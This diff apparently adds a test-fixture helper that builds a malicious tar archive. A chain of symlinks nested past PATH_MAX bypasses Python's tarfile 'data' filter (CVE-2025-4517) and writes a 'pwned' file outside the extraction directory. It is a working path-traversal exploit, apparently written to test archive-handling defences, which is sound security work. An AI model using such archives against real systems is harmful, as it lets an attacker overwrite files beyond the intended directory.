@@ -45,3 +45,32 @@ def with_lying_sizes(data: bytes, *, claimed: int) -> bytes:
             struct.pack_into("<I", raw, at + size_at, claimed)
             at = raw.find(signature, at + 4)
     return bytes(raw)
+
+
+def path_max_escape(*, outside: str, payload: bytes = b"pwned") -> bytes:
+    """A tar that writes `../<outside>/pwned` through a chain of symlinks whose real path exceeds
+    PATH_MAX: os.path.realpath then stops resolving, so Python's `data` filter (before the
+    CVE-2025-4517 fix) believes the link stays inside. Unpacked where `..` is the parent of the
+    destination's staging dir, the file lands in that parent's `<outside>` directory."""
+    component = "d" * 247  # 16 of these nest past PATH_MAX (4096) with a link name on top
+    steps = "abcdefghijklmnop"
+    out = io.BytesIO()
+    with tarfile.open(fileobj=out, mode="w:gz") as archive:
+
+        def add(name: str, kind: bytes, link: str = "", data: bytes = b"") -> None:
+            info = tarfile.TarInfo(name)
+            info.type = kind
+            info.linkname = link
+            info.size = len(data)
+            archive.addfile(info, io.BytesIO(data) if data else None)
+
+        path = ""
+        for step in steps:  # <step> -> the long directory beside it, nested 16 deep
+            add(f"{path}{component}", tarfile.DIRTYPE)
+            add(f"{path}{step}", tarfile.SYMTYPE, link=component)
+            path += component + "/"
+        chain = "/".join(steps) + "/" + "l" * 254  # resolves through all 16 links
+        add(chain, tarfile.SYMTYPE, link="../" * len(steps))  # back up to the root
+        add("escape", tarfile.SYMTYPE, link=f"{chain}/../{outside}")
+        add("escape/pwned", tarfile.REGTYPE, data=payload)
+    return out.getvalue()
